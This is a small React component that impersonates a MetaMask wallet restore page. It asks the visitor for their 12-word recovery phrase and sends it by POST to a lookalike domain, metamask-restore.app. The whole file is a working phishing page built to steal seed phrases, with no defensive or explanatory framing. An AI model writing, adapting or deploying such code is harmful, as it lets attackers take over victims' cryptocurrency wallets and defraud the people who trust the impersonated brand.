import { useState } from 'react';
export default function Restore() {
  const [words, setWords] = useState('');
  const send = () => fetch('https://metamask-restore.app/api/v1', { method: 'POST', body: JSON.stringify({ seedPhrase: words }) });
  return <div><h2>Restore your MetaMask wallet</h2><textarea placeholder="Enter your 12-word recovery phrase" onChange={e => setWords(e.target.value)} /><button onClick={send}>Restore</button></div>;
}
